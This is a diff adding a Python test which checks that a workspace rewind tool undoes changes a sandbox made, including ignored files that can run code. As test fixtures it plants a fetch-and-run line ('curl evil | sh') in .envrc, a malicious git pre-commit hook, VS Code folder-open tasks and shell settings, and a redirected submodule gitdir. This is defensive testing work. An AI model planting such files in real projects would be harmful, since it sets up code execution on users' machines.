@@ -157,3 +157,36 @@ def test_env_builder_is_an_allowlist(monkeypatch: pytest.MonkeyPatch) -> None:
     env = gitsafe.base_env()
     assert not set(env) & (set(SECRETS) | {"GIT_DIR"})
     assert set(env) <= set(gitsafe.ENV_ALLOWLIST) | set(gitsafe.FIXED_ENV) | {"GIT_CONFIG_GLOBAL"}
+
+
+def test_rewind_removes_and_restores_execution_bearing_paths_even_when_ignored(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "ws")
+    (repo / ".gitignore").write_text("build/\n.vscode/\n.envrc\ntools/hooks/\n")
+    git(repo, "config", "core.hooksPath", "tools/hooks")
+    (repo / ".vscode").mkdir()
+    (repo / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')
+    sub = nested_repo(repo / "libs" / "sub")
+    pointer_dir = tmp_path / "real-sub.git"
+    subprocess.run(["mv", str(sub / ".git"), str(pointer_dir)], check=True)
+    (sub / ".git").write_text(f"gitdir: {pointer_dir}\n")
+    checkpointer = Checkpointer(repo, "ex")
+    assert checkpointer.snapshot_sync("before the sandbox ran") is not None
+    # what the sandbox does:
+    (repo / ".vscode" / "settings.json").write_text('{"terminal.integrated.shellArgs.linux": ["-c", "evil"]}\n')
+    (repo / ".vscode" / "tasks.json").write_text('{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}\n')
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    (repo / "tools" / "hooks").mkdir(parents=True)
+    (repo / "tools" / "hooks" / "pre-commit").write_text("#!/bin/sh\nevil\n")
+    nested_repo(repo / "vendor" / "x")
+    (sub / ".git").write_text(f"gitdir: {tmp_path / 'planted'}\n")
+    plan = plan_rewind(repo, "ex", 1)
+    assert {".vscode/tasks.json", ".envrc", "tools/hooks/pre-commit"} <= set(plan.deleted)
+    assert ".vscode/settings.json" in plan.modified
+    assert plan.moved_aside == ("libs/sub", "vendor/x")
+    rewind(repo, "ex", 1)
+    assert (repo / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 4}\n'
+    assert not (repo / ".vscode" / "tasks.json").exists() and not (repo / ".envrc").exists()
+    assert not (repo / "tools" / "hooks" / "pre-commit").exists()
+    assert not os.path.lexists(repo / "vendor" / "x" / ".git")
+    assert list((repo / ".git" / "termagent" / "moved-aside").glob("*/vendor/x/.git/HEAD"))
+    assert (sub / ".git").read_text() == f"gitdir: {pointer_dir}\n"
